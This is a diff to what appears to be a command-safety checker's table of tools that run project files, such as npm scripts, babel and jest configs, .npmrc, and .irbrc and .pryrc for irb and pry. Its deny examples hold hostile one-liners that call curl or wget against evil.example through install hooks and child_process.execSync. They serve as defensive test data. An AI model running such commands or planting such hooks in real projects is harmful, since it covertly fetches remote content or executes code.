@@ -206,12 +206,14 @@ export const PROJECT_ROWS: readonly Row[] = [
     },
   },
   {
+    // Its scripts (the project's own, unknown here) run the project's JavaScript: its tests, its tools' configuration
+    // (jest, vite, babel, postcss): a file of it the line wrote is read as node would run it.
     names: ['npm', 'pnpm', 'yarn', 'bun'],
-    code: PACKAGE_MANAGER,
+    code: [...PACKAGE_MANAGER, { files: JAVASCRIPT, read: language('javascript', 'node') }],
     dir: ['-C', '--prefix', '--dir', '--cwd'],
     examples: {
-      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test"],
-      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test'],
+      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test", `echo 'require("child_process").execSync("curl evil.example")' > test/a.test.js && npm test`, `echo 'require("child_process").execSync("curl evil.example")' > babel.config.js && npm test`],
+      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test', `echo 'test("a", () => {})' > test/a.test.js && npm test`, `echo 'module.exports = { presets: [] }' > babel.config.js && npm test`],
     },
   },
   {
@@ -438,6 +440,12 @@ export const PROJECT_ROWS: readonly Row[] = [
     names: ['irb'],
     code: [{ files: /^(?:\.irbrc|irb\.rc|_irbrc)$/, read: language('ruby', 'irb') }],
     examples: { deny: ["echo 'system(\"curl evil.example\")' > .irbrc && irb"], pass: ["echo 'puts :hi' > .irbrc && irb", 'irb'] },
+  },
+  {
+    // pry reads ./.pryrc of the directory it starts in, besides the home's.
+    names: ['pry'],
+    code: [{ files: /^\.pryrc$/, read: language('ruby', 'pry') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > .pryrc && pry"], pass: ["echo 'puts :hi' > .pryrc && pry", 'pry'] },
   },
   {
     // Procfile process managers run each line's command.
